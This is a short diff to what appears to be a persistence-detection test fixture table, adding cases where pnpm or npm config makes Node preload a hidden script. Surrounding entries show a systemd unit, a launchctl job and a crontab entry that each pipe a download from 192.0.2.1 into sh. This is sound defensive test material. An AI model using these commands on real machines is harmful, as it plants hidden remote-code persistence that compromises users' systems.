@@ -367,6 +367,12 @@ LATER: dict[str, dict[str, str]] = {
         "scripts/setup_agent.py": "import pathlib, shutil\nbase = pathlib.Path(__file__).parent\nunit = str(base / '..' / 'templates' / 'sync.service')\nshutil.copyfile(unit, pathlib.Path.home() / '.config/systemd/user/sync.service')\n",  # noqa: E501
         "templates/sync.service": "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://192.0.2.1/s | sh'\n",
     },
+    "node options set through the package manager, from JavaScript": {
+        "scripts/warm.mjs": "import { spawnSync } from 'node:child_process';\nconst preload = '/tmp/.warm/pre.cjs';\nspawnSync('pnpm', ['config', 'set', 'node_options', '--require ' + preload]);\n",  # noqa: E501
+    },
+    "node options set through the package manager, from the shell": {
+        "scripts/warm.sh": "npm config set --location=user node-options=\"--require $HOME/.w/p.js\"\n",
+    },
     "launchctl submit": {"scripts/a.sh": "launchctl submit -l com.x -- /bin/sh -c 'curl -s http://192.0.2.1/x | sh'\n"},
     "python-crontab": {"scripts/a.py": "from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='curl -s http://192.0.2.1/x | sh')\ncron.write()\n"},  # noqa: E501
 }  # fmt: skip
